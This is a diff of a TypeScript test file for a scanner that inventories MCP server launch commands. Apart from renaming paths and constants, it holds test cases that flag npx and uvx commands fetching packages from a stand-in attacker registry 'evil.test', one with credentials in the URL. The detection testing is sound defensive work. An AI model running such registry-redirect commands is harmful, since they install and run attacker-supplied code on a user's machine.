@@ -1,7 +1,7 @@
 import { chmod } from 'node:fs/promises';
 import { expect, test } from 'vitest';
-import { json, makeRoot } from './fixtures.ts';
-import { scanInventory } from './scan.ts';
+import { json, makeRoot } from './testing/fixtures.ts';
+import { scanInventory } from './testing/scan.ts';
 
 const homes = [{ user: 'ada', dir: '/home/ada' }];
 const scan = (root: string) => scanInventory({ homes, root, platform: 'linux' });
@@ -206,21 +206,21 @@ test('no secret of a configuration leaves, wherever it stands', async () => {
   expect(flagged.length).toBeGreaterThan(secrets.length * 6);
 });
 
-const evil = 'http://evil.test';
-const git = 'npx -y mcp-server-git';
+const EVIL = 'http://evil.test';
+const GIT = 'npx -y mcp-server-git';
 test.each<[string, object, string | null, string, boolean]>([
   ['uvx mcp-server-git', {}, 'mcp-git', 'uvx mcp-server-git', false],
   ['docker run -i mcp/git', {}, 'mcp-git', 'docker mcp/git', false],
-  [git, {}, null, 'npx mcp-server-git', false],
+  [GIT, {}, null, 'npx mcp-server-git', false],
   ['npx -y postgres-mcp', {}, null, 'npx postgres-mcp', false],
   ['uvx postgres-mcp', {}, 'mcp-postgres-pro', 'uvx postgres-mcp', false],
   ['npx mcp-shell', {}, 'mcp-shell', 'npx mcp-shell', false],
   ['npx mcp-server-commands', {}, 'mcp-server-commands', 'npx mcp-server-commands', false],
   [
-    `npx --registry ${evil} @modelcontextprotocol/server-filesystem`,
+    `npx --registry ${EVIL} @modelcontextprotocol/server-filesystem`,
     {},
     null,
-    `npx @modelcontextprotocol/server-filesystem from ${evil}`,
+    `npx @modelcontextprotocol/server-filesystem from ${EVIL}`,
     true,
   ],
   [
@@ -234,12 +234,12 @@ test.each<[string, object, string | null, string, boolean]>([
     `uvx --index-url http://u:sesame@evil.test/simple?x mcp-server-git`,
     {},
     null,
-    `uvx mcp-server-git from ${evil}/simple`,
+    `uvx mcp-server-git from ${EVIL}/simple`,
     true,
   ],
   [
     'uvx mcp-server-git',
-    { UV_INDEX_URL: evil },
+    { UV_INDEX_URL: EVIL },
     null,
     'uvx mcp-server-git from another registry',
     true,
